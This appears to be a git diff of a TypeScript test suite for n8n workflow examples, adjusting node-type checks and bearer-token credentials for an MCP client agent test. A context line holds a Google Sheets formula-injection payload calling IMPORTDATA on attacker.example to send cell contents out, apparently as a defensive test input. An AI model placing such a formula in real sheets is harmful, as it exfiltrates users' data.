@@ -24,9 +24,6 @@ import { activate, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
 import { API_KEY } from '../harness/world.mts';
 
-/** An agent that calls the gateway by itself, and what an execution starts that has failed. */
-const WITHOUT_OUR_NODE = ['mcp-client-agent', 'tell-what-failed'];
-
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
@@ -91,16 +88,10 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		for (const name of exampleNames()) {
-			test(`${name} is imported as it is, with the credential found by its name`, async () => {
-				const { rest, credentialId } = world;
-				const saved = await saveWorkflow(rest, example(name));
-				for (const { type, typeVersion } of saved.nodes) {
+			test(`${name} has nodes that this n8n has`, async () => {
+				const { nodes } = await saveWorkflow(world.rest, example(name));
+				for (const { type, typeVersion } of nodes) {
 					assert.ok(known.get(type)?.includes(typeVersion), `n8n has no ${type} ${typeVersion}`);
-				}
-				const ours = saved.nodes.filter(({ type }) => /\.dataAccess(Trigger|Tool)?$/.test(type));
-				assert.equal(ours.length === 0, WITHOUT_OUR_NODE.includes(name));
-				for (const { credentials } of ours) {
-					assert.equal(credentials?.dataAccessApi?.id, credentialId);
 				}
 			});
 		}
@@ -358,7 +349,7 @@ export function testExamples(world: RegularMode): void {
 		test('mcp-client-agent', async () => {
 			fresh();
 			const { emulator, model, rest } = world;
-			await createBearerToken(rest, 'Key of the gateway', API_KEY);
+			const id = await createBearerToken(rest, API_KEY, 'Key of the gateway');
 			const endpoint = '/api/v1/photos/v1/fetch_user_posts_v2';
 			model.plays(
 				[{ tool: /inspect$/, input: { endpoint } }],
@@ -368,6 +359,7 @@ export function testExamples(world: RegularMode): void {
 			const execution = await run(
 				changed(example('mcp-client-agent'), 'Gateway over MCP', {
 					parameters: { endpointUrl: `${emulator.url}/mcp` },
+					credentials: { httpBearerAuth: { id, name: 'Key of the gateway' } },
 				}),
 			);
 			assert.equal(execution.status, 'success', execution.error?.message);
